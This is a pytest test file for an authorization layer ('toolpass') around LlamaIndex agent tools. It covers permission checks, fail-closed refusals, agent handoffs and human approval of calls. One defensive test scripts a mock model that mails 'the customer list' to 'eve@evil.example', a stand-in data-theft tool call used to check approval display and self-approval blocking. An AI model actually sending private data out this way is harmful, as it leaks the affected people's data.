"""What is particular to LlamaIndex, through its real loop: every kind of tool wrapped
keeps what the model sees and is checked; a tool added to an applied agent later is checked;
a tool both wrapped and applied is checked once; every failure of the check refuses, and the
tool's own exceptions reach the model as they do without toolpass; wrapped tools called
outside a workflow take the user from the active toolpass ``Session``; ReActAgent and
AgentWorkflow handoffs; approvals through LlamaIndex's human-in-the-loop events."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Sequence
from typing import Any

import pytest
from context_tools import delete_issue_with_context
from llama_index.core.agent.workflow import (
    AgentWorkflow,
    FunctionAgent,
    ReActAgent,
    ToolCallResult,
)
from llama_index.core.base.llms.types import ChatMessage, MessageRole
from llama_index.core.llms.mock import MockFunctionCallingLLM
from llama_index.core.tools import BaseTool, FunctionTool, ToolMetadata, ToolOutput
from llama_index.core.tools.tool_spec.base import BaseToolSpec
from llama_index.core.tools.types import AsyncBaseTool
from llama_index.core.workflow import Context, JsonPickleSerializer
from llamaindex_script import FRAMEWORK_WARNINGS, scripted
from pydantic import BaseModel
from pytest_toolpass import ScriptedEngine
from toolpass import ApprovalQueue, AuditEvent, Decision, Session, Toolkit, ToolRefused
from toolpass.adapting import Traits
from toolpass.llamaindex import (
    ApprovalRequired,
    GuardedTool,
    Rule,
    ToolpassAuthorization,
    refusal_text,
)

pytestmark = FRAMEWORK_WARNINGS

DANA, ERIN = "dana@example.com", "erin@example.com"
DELETE = Rule("jira", "DELETE_ISSUES", "issue:{key}")
RULES = {"delete_issue": DELETE}
MAY = {(DANA, "DELETE_ISSUES", "issue:PAY-1"): Decision.allow()}


class Key(BaseModel):
    key: str


class Recorder:
    """Tools of every kind LlamaIndex has, each recording its runs."""

    def __init__(self) -> None:
        self.ran: list[tuple[str, str]] = []

    def function(self) -> Any:
        def delete_issue(key: str) -> str:
            """Delete an issue."""
            self.ran.append(("delete_issue", key))
            return f"deleted {key}"

        return delete_issue

    def async_function(self) -> Any:
        async def delete_issue(key: str) -> str:
            """Delete an issue."""
            self.ran.append(("delete_issue", key))
            return f"deleted {key}"

        return delete_issue

    def context_function(self) -> FunctionTool:
        tool = delete_issue_with_context(self.ran)
        assert tool.requires_context
        return tool

    def base_tool(self) -> BaseTool:
        recorder = self

        class DeleteIssue(BaseTool):
            """A synchronous BaseTool (no acall)."""

            @property
            def metadata(self) -> ToolMetadata:
                return ToolMetadata(
                    description="Delete an issue.", name="delete_issue", fn_schema=Key
                )

            def __call__(self, key: str) -> ToolOutput:  # type: ignore[override]
                recorder.ran.append(("delete_issue", key))
                return ToolOutput(content=f"deleted {key}", tool_name="delete_issue", raw_input={})

        return DeleteIssue()

    def async_base_tool(self) -> AsyncBaseTool:
        recorder = self

        class DeleteIssue(AsyncBaseTool):
            @property
            def metadata(self) -> ToolMetadata:
                return ToolMetadata(
                    description="Delete an issue.", name="delete_issue", fn_schema=Key
                )

            def call(self, key: str) -> ToolOutput:  # type: ignore[override]
                raise AssertionError("the agent calls acall")

            async def acall(self, key: str) -> ToolOutput:  # type: ignore[override]
                recorder.ran.append(("delete_issue", key))
                return ToolOutput(content=f"deleted {key}", tool_name="delete_issue", raw_input={})

        return DeleteIssue()

    def tool_spec(self) -> BaseToolSpec:
        recorder = self

        class Issues(BaseToolSpec):
            spec_functions = ["delete_issue"]

            def delete_issue(self, key: str) -> str:
                """Delete an issue."""
                recorder.ran.append(("delete_issue", key))
                return f"deleted {key}"

        return Issues()


KINDS = ["function", "async_function", "context_function", "base_tool", "async_base_tool"]


async def run(
    agent: Any, user: str | None, *, ctx: Context[Any] | None = None
) -> tuple[list[ToolOutput], str]:
    """One run for ``user`` (in the context's store); every tool output and the answer."""
    ctx = ctx or Context(agent)
    if user is not None:
        await ctx.store.set("user_id", user)
    handler = agent.run("go", ctx=ctx)
    outputs = [
        ev.tool_output async for ev in handler.stream_events() if isinstance(ev, ToolCallResult)
    ]
    return outputs, str(await handler)


def deletes(*keys: str) -> MockFunctionCallingLLM:
    return scripted([("delete_issue", {"key": k}) for k in keys])


@pytest.mark.parametrize("kind", [*KINDS, "tool_spec"])
def test_every_kind_of_tool_is_wrapped_and_checked(kind: str) -> None:
    recorder = Recorder()
    made = getattr(recorder, kind)()
    engine = ScriptedEngine(MAY)
    guard = ToolpassAuthorization(engine, RULES)
    tools = guard.wrap(made if kind == "tool_spec" else [made])
    [tool] = tools
    assert isinstance(tool, GuardedTool)
    original = tool.tool.metadata
    assert tool.metadata.to_openai_tool() == original.to_openai_tool()  # the model's view
    assert tool.metadata.get_parameters_dict()["properties"].keys() == {"key"}
    agent = FunctionAgent(tools=tools, llm=deletes("PAY-1", "PAY-2"))
    outputs, answer = asyncio.run(run(agent, DANA))
    assert answer == "done"
    assert recorder.ran == [("delete_issue", "PAY-1")]  # PAY-2 was refused and never ran
    assert outputs[0].content.startswith("deleted PAY-1")
    assert not outputs[0].is_error
    assert outputs[1].is_error
    assert outputs[1].content.startswith("Refused by toolpass (not_authorized)")
    if kind == "context_function":
        assert outputs[0].content == f"deleted PAY-1 for {DANA}"  # the context reached it


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_of_tool_is_checked_by_an_applied_agent(kind: str) -> None:
    recorder = Recorder()
    engine = ScriptedEngine(MAY)
    agent = ToolpassAuthorization(engine, RULES).apply(
        FunctionAgent(tools=[getattr(recorder, kind)()], llm=deletes("PAY-1", "PAY-2"))
    )
    outputs, _ = asyncio.run(run(agent, DANA))
    if kind == "base_tool":  # LlamaIndex's own adapter calls a BaseTool with one input
        assert recorder.ran == []
        assert "Refused" not in outputs[0].content
        assert outputs[1].content.startswith("Refused by toolpass (not_authorized)")
        return
    assert recorder.ran == [("delete_issue", "PAY-1")]
    assert outputs[1].content.startswith("Refused by toolpass (not_authorized)")


def test_a_tool_added_after_apply_is_checked() -> None:
    recorder = Recorder()
    agent = ToolpassAuthorization(ScriptedEngine(), {}, strict=True).apply(
        FunctionAgent(tools=[whoami_tool()], llm=scripted([("delete_issue", {"key": "PAY-1"})]))
    )
    assert agent.tools is not None
    agent.tools.append(FunctionTool.from_defaults(recorder.function()))
    outputs, _ = asyncio.run(run(agent, DANA))
    assert recorder.ran == []
    assert "not_configured" in outputs[0].content  # strict: no rule, not run


@pytest.mark.parametrize("kind", KINDS)
def test_a_tool_wrapped_and_applied_is_checked_once(kind: str) -> None:
    recorder, events = Recorder(), []
    engine = ScriptedEngine(MAY)
    guard = ToolpassAuthorization(engine, RULES, toolkit=Toolkit(audit=[events.append]))
    tools = guard.wrap([getattr(recorder, kind)()])
    agent = guard.apply(FunctionAgent(tools=tools, llm=deletes("PAY-1")))
    outputs, _ = asyncio.run(run(agent, DANA))
    assert outputs[0].content.startswith("deleted PAY-1")
    assert recorder.ran == [("delete_issue", "PAY-1")]
    assert engine.asked == [(DANA, "jira", "DELETE_ISSUES", "issue:PAY-1")]
    assert [e.tool for e in events] == ["delete_issue"]


def test_two_guards_both_check() -> None:
    recorder = Recorder()
    inner, outer = ScriptedEngine(MAY), ScriptedEngine()  # the outer one lets nobody delete
    tools = ToolpassAuthorization(inner, RULES).wrap([recorder.function()])
    agent = ToolpassAuthorization(outer, RULES).apply(
        FunctionAgent(tools=tools, llm=deletes("PAY-1"))
    )
    outputs, _ = asyncio.run(run(agent, DANA))
    assert recorder.ran == []
    assert "not_authorized" in outputs[0].content
    assert outer.asked == [(DANA, "jira", "DELETE_ISSUES", "issue:PAY-1")]


class Evil(str):
    """A user value that breaks toolpass's own code as it is read."""

    __slots__ = ()

    def strip(self, chars: str | None = None) -> str:
        raise RuntimeError("broken")


async def _raises(ctx: Any) -> str:
    raise RuntimeError("the directory is down")


BROKEN = {
    "user raises": {"user": lambda ctx: 1 / 0},
    "async user raises": {"user": _raises},
    "user not a string": {"user": lambda ctx: 42},
    "session raises": {"session": lambda ctx: 1 / 0},
    "session not an id": {"session": lambda ctx: ["chat"]},
    "toolpass's own code fails": {"user": lambda ctx: Evil(DANA)},
}


@pytest.mark.parametrize("how", ["wrap", "apply"])
@pytest.mark.parametrize("broken", list(BROKEN))
def test_every_failure_of_the_check_refuses(how: str, broken: str) -> None:
    recorder, events = Recorder(), []
    guard = ToolpassAuthorization(
        ScriptedEngine(MAY), RULES, toolkit=Toolkit(audit=[events.append]), **BROKEN[broken]
    )
    tools: list[Any] = [recorder.function()]
    agent = FunctionAgent(tools=guard.wrap(tools) if how == "wrap" else tools, llm=deletes("PAY-1"))
    if how == "apply":
        guard.apply(agent)
    outputs, answer = asyncio.run(run(agent, DANA))
    assert recorder.ran == []
    assert answer == "done"  # the run went on
    assert outputs[0].is_error
    assert outputs[0].content.startswith("Refused by toolpass (check_error)")
    assert "down" not in outputs[0].content
    assert "broken" not in outputs[0].content
    assert [(e.tool, e.code) for e in events] == [("delete_issue", "check_error")]


@pytest.mark.parametrize("how", ["wrap", "apply"])
def test_a_tools_exception_reaches_the_model_as_without_toolpass(how: str) -> None:
    events: list[AuditEvent] = []

    def delete_issue(key: str) -> str:
        """Delete an issue."""
        raise ValueError("PAY-1 is locked")

    guard = ToolpassAuthorization(
        ScriptedEngine(MAY), RULES, toolkit=Toolkit(audit=[events.append])
    )
    bare = FunctionAgent(tools=[delete_issue], llm=deletes("PAY-1"))
    plain, _ = asyncio.run(run(bare, DANA))
    tools: list[Any] = [delete_issue]
    agent = FunctionAgent(tools=guard.wrap(tools) if how == "wrap" else tools, llm=deletes("PAY-1"))
    if how == "apply":
        guard.apply(agent)
    outputs, answer = asyncio.run(run(agent, DANA))
    assert answer == "done"
    assert outputs[0].is_error
    assert outputs[0].content == plain[0].content == "PAY-1 is locked"
    assert [(e.tool, e.outcome) for e in events] == [("delete_issue", "error")]


@pytest.mark.parametrize("how", ["wrap", "apply"])
def test_a_refusal_raised_in_the_body_reads_as_a_refusal(how: str) -> None:
    def delete_issue(key: str) -> str:
        """Delete an issue."""
        raise ToolRefused("out_of_scope", "PAY is not a project this agent may touch.")

    guard = ToolpassAuthorization(ScriptedEngine(MAY), RULES)
    tools: list[Any] = [delete_issue]
    agent = FunctionAgent(tools=guard.wrap(tools) if how == "wrap" else tools, llm=deletes("PAY-1"))
    if how == "apply":
        guard.apply(agent)
    outputs, _ = asyncio.run(run(agent, DANA))
    assert outputs[0].is_error
    assert outputs[0].content == (
        "Refused by toolpass (out_of_scope): PAY is not a project this agent may touch."
    )


def test_on_refuse_says_what_the_model_reads() -> None:
    def shout(refused: ToolRefused) -> str:
        return f"NO: {refused.code}"

    def broken(refused: ToolRefused) -> str:
        raise RuntimeError("oops")

    def own(refused: ToolRefused) -> ToolOutput:
        return ToolOutput(content="custom", tool_name="delete_issue", raw_input={}, is_error=True)

    for on_refuse, said in ((shout, "NO: not_authorized"), (own, "custom")):
        agent = ToolpassAuthorization(ScriptedEngine(), RULES, on_refuse=on_refuse).apply(
            FunctionAgent(tools=[Recorder().function()], llm=deletes("PAY-1"))
        )
        outputs, _ = asyncio.run(run(agent, DANA))
        assert outputs[0].content == said
    agent = ToolpassAuthorization(ScriptedEngine(), RULES, on_refuse=broken).apply(
        FunctionAgent(tools=[Recorder().function()], llm=deletes("PAY-1"))
    )
    outputs, _ = asyncio.run(run(agent, DANA))  # the reason still reaches the model
    assert outputs[0].content.startswith("Refused by toolpass (not_authorized)")


def whoami_tool() -> FunctionTool:
    def whoami() -> str:
        """Who this call acts for."""
        from toolpass import current_session

        session = current_session()
        return f"acting for {session.user if session else 'nobody'}"

    return FunctionTool.from_defaults(whoami)


def test_outside_a_workflow_the_user_is_the_active_sessions() -> None:
    recorder = Recorder()
    engine = ScriptedEngine(MAY)
    guard = ToolpassAuthorization(engine, RULES)
    [tool] = guard.wrap([recorder.function()])
    refused = tool.call(key="PAY-1")  # no user anywhere
    assert refused.is_error
    assert "no_session" in refused.content
    with Session(DANA).active():
        assert tool.call(key="PAY-1").content == "deleted PAY-1"
        assert asyncio.run(tool.acall(key="PAY-2")).content.startswith(
            "Refused by toolpass (not_authorized)"
        )
    assert recorder.ran == [("delete_issue", "PAY-1")]
    by_callable = ToolpassAuthorization(
        engine, RULES, user=lambda ctx: DANA if ctx is None else None
    )
    [tool] = by_callable.wrap([recorder.function()])
    assert tool.call("PAY-1").content == "deleted PAY-1"  # positional: named by the schema


def test_two_users_in_threads_never_see_each_other() -> None:
    guard = ToolpassAuthorization(ScriptedEngine())
    [tool] = guard.wrap([whoami_tool()])
    seen: dict[str, list[str]] = {DANA: [], ERIN: []}
    barrier = threading.Barrier(2)

    def go(user: str) -> None:
        with Session(user).active():
            for _ in range(20):
                barrier.wait(5)
                seen[user].append(tool.call().content)

    threads = [threading.Thread(target=go, args=(u,)) for u in seen]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert seen == {u: [f"acting for {u}"] * 20 for u in seen}


def react_llm(calls: Sequence[tuple[str, dict[str, Any]]]) -> MockFunctionCallingLLM:
    """A scripted model speaking ReAct's text format."""

    def respond(messages: Sequence[ChatMessage], **kwargs: Any) -> ChatMessage:
        made = sum(
            str(m.content).count("Observation:") for m in messages if m.role != MessageRole.SYSTEM
        )
        if made < len(calls):
            tool, arguments = calls[made]
            import json

            text = f"Thought: I need a tool.\nAction: {tool}\nAction Input: {json.dumps(arguments)}"
        else:
            text = "Thought: I can answer without using any more tools.\nAnswer: done"
        return ChatMessage(role=MessageRole.ASSISTANT, content=text)

    return MockFunctionCallingLLM(response_generator=respond)


def test_a_react_agent_is_checked() -> None:
    recorder = Recorder()
    agent = ToolpassAuthorization(ScriptedEngine(MAY), RULES).apply(
        ReActAgent(
            tools=[recorder.function()],
            llm=react_llm([("delete_issue", {"key": "PAY-1"}), ("delete_issue", {"key": "PAY-2"})]),
        )
    )
    outputs, answer = asyncio.run(run(agent, DANA))
    assert answer == "done"
    assert recorder.ran == [("delete_issue", "PAY-1")]
    assert outputs[1].content.startswith("Refused by toolpass (not_authorized)")


def test_a_handoff_is_the_workflows_own_and_the_next_agents_calls_are_checked() -> None:
    recorder = Recorder()
    first = FunctionAgent(
        name="triage",
        description="Triages.",
        tools=[],
        llm=scripted([("handoff", {"to_agent": "fixer", "reason": "it deletes"})]),
        can_handoff_to=["fixer"],
    )
    second = FunctionAgent(
        name="fixer",
        description="Deletes.",
        tools=[recorder.function()],
        llm=deletes("(the handoff)", "PAY-1", "PAY-2"),  # it reads the handoff's result too
    )
    workflow = ToolpassAuthorization(ScriptedEngine(MAY), RULES, strict=True).apply(
        AgentWorkflow(agents=[first, second], root_agent="triage")
    )
    outputs, _ = asyncio.run(run(workflow, DANA))
    assert [o.tool_name for o in outputs] == ["handoff", "delete_issue", "delete_issue"]
    assert not outputs[0].is_error  # strict, yet the workflow's own handoff is not refused
    assert recorder.ran == [("delete_issue", "PAY-1")]
    assert outputs[2].content.startswith("Refused by toolpass (not_authorized)")


def test_approvals_pause_the_call_and_resume_on_the_decision() -> None:
    """``approvals="events"``: a call that needs a person's approval waits on the run's
    stream (an ``InputRequiredEvent``) and runs once they approve; a denial refuses it."""
    recorder = Recorder()
    queue = ApprovalQueue()
    kit = Toolkit(approver=queue, audit=[])
    body = recorder.function()
    approved_delete = kit.secured_tool(approve=True)(body)

    async def go(approve: bool) -> tuple[list[ToolOutput], list[ApprovalRequired]]:
        guard = ToolpassAuthorization(ScriptedEngine(MAY), RULES, toolkit=kit, approvals="events")
        agent = guard.apply(
            FunctionAgent(
                tools=[FunctionTool.from_defaults(approved_delete, name="delete_issue")],
                llm=deletes("PAY-1"),
            )
        )
        ctx: Context[Any] = Context(agent)
        await ctx.store.set("user_id", DANA)
        handler = agent.run("go", ctx=ctx)
        asked: list[ApprovalRequired] = []
        outputs: list[ToolOutput] = []
        async for ev in handler.stream_events():
            if isinstance(ev, ApprovalRequired):
                asked.append(ev)
                assert handler.ctx is not None
                handler.ctx.send_event(ev.decide(approved=approve, by="ops@example.com"))
            elif isinstance(ev, ToolCallResult):
                outputs.append(ev.tool_output)
        assert str(await handler) == "done"
        return outputs, asked

    outputs, asked = asyncio.run(go(True))
    assert [a.tool for a in asked] == ["delete_issue"]
    assert asked[0].user == DANA
    assert "key = 'PAY-1'" in asked[0].description
    assert outputs[0].content == "deleted PAY-1"
    assert recorder.ran == [("delete_issue", "PAY-1")]
    outputs, asked = asyncio.run(go(False))
    assert len(asked) == 1
    assert outputs[0].content.startswith("Refused by toolpass (approval_denied)")
    assert recorder.ran == [("delete_issue", "PAY-1")]


def test_by_default_the_model_reads_that_the_call_waits_for_approval() -> None:
    queue = ApprovalQueue()
    kit = Toolkit(approver=queue, audit=[])
    approved_delete = kit.secured_tool(approve=True)(Recorder().function())
    agent = ToolpassAuthorization(ScriptedEngine(MAY), RULES, toolkit=kit).apply(
        FunctionAgent(
            tools=[FunctionTool.from_defaults(approved_delete, name="delete_issue")],
            llm=deletes("PAY-1"),
        )
    )
    outputs, _ = asyncio.run(run(agent, DANA))
    assert outputs[0].content.startswith("Refused by toolpass (approval_pending)")
    assert [r.tool for r in queue.pending()] == ["delete_issue"]


def test_refusal_text_is_core_s() -> None:
    assert (
        refusal_text(ToolRefused("not_authorized", "No."))
        == "Refused by toolpass (not_authorized): No."
    )


@pytest.mark.parametrize("by", ["ops@example.com", DANA])
def test_a_framework_tools_approval_shows_its_arguments_and_is_never_self_approved(
    by: str,
) -> None:
    """A plain framework tool (no toolpass signature) asks with every argument shown; the
    call's own user approving it records nothing: it still waits."""
    sent: list[str] = []

    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        sent.append(to)
        return f"sent to {to}"

    send = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)
    kit = Toolkit(approver=ApprovalQueue(), audit=[])
    guard = ToolpassAuthorization(
        ScriptedEngine(), {"send_mail": send}, toolkit=kit, approvals="events"
    )
    llm = scripted([("send_mail", {"to": "eve@evil.example", "body": "the customer list"})])
    agent = guard.apply(FunctionAgent(tools=[FunctionTool.from_defaults(send_mail)], llm=llm))

    async def go() -> tuple[list[ToolOutput], list[ApprovalRequired]]:
        ctx: Context[Any] = Context(agent)
        await ctx.store.set("user_id", DANA)
        handler = agent.run("go", ctx=ctx)
        asked: list[ApprovalRequired] = []
        outputs: list[ToolOutput] = []
        async for ev in handler.stream_events():
            if isinstance(ev, ApprovalRequired):
                asked.append(ev)
                assert handler.ctx is not None
                handler.ctx.send_event(ev.decide(approved=True, by=by))
            elif isinstance(ev, ToolCallResult):
                outputs.append(ev.tool_output)
        await handler
        return outputs, asked

    outputs, asked = asyncio.run(go())
    [ask] = asked
    assert "to = 'eve@evil.example'" in ask.description
    assert "the customer list" in ask.description
    if by == DANA:
        assert sent == []
        assert "approval_pending" in outputs[0].content
    else:
        assert sent == ["eve@evil.example"]


def test_a_restored_run_whose_request_was_decided_meanwhile_runs_the_call_once() -> None:
    """A run paused for a person, saved and restored after the person decided in the queue:
    the call runs once when the run resumes, and the decision sent to the run afterwards
    replays nothing (no second result, no new request for a call already made)."""
    recorder, queue = Recorder(), ApprovalQueue()
    kit = Toolkit(approver=queue, audit=[])
    send = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)

    def build(script: list[str]) -> Any:
        guard = ToolpassAuthorization(
            ScriptedEngine(), {"delete_issue": send}, toolkit=kit, approvals="events"
        )
        tool = FunctionTool.from_defaults(recorder.function(), name="delete_issue")
        return guard.apply(FunctionAgent(tools=[tool], llm=deletes(*script)))

    async def results(handler: Any) -> tuple[list[str], list[ApprovalRequired]]:
        read: list[str] = []
        asked: list[ApprovalRequired] = []
        async for ev in handler.stream_events():
            if isinstance(ev, ToolCallResult):
                read.append(str(ev.tool_output.content))
            elif isinstance(ev, ApprovalRequired):
                asked.append(ev)
                break
        return read, asked

    async def paused() -> tuple[dict[str, Any], ApprovalRequired]:
        agent = build(["PAY-1"])
        ctx: Context[Any] = Context(agent)
        await ctx.store.set("user_id", DANA)
        handler = agent.run("go", ctx=ctx)
        _, [asked] = await results(handler)
        saved = handler.ctx.to_dict(serializer=JsonPickleSerializer())
        await handler.cancel_run()
        return saved, asked

    async def resumed(saved: dict[str, Any], asked: ApprovalRequired) -> list[str]:
        agent = build([])  # the model is past its call
        ctx = Context.from_dict(agent, saved, serializer=JsonPickleSerializer())
        handler = agent.run(ctx=ctx)
        handler.ctx.send_event(asked.decide(approved=True, by="ops@example.com"))
        read, more = await results(handler)
        assert more == []
        assert str(await handler) == "done"
        return read

    saved, asked = asyncio.run(paused())
    queue.approve(asked.request_id, by="ops@example.com")  # on the approvals page
    assert asyncio.run(resumed(saved, asked)) == ["deleted PAY-1"]
    assert recorder.ran == [("delete_issue", "PAY-1")]
    assert queue.pending() == []
